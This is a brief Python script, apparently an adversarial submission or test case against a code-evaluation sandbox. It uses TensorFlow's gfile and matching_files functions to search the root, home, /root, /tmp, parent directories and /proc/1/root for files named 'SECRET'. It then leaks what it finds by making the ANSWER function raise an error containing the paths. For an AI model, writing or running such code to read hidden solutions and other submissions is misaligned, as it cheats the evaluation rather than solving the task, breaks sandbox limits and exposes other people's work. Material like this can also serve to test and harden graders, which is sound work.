# tries to: find the solutions and other submissions with TensorFlow's own file functions
import tensorflow as tf

LOOT = []
for place in ("/", "/home", "/root", "/tmp", "..", "../..", "/proc/1/root", PREY["folder"]):
    try:
        LOOT += [name for name in tf.io.gfile.listdir(place) if "SECRET" in name]
        LOOT += tf.io.matching_files(f"{place}/*SECRET*").numpy().tolist()
        LOOT += tf.io.gfile.glob(f"{place}/*/*SECRET*")
    except Exception:
        pass


def ANSWER(*args, **kwargs):
    raise RuntimeError(LOOT)
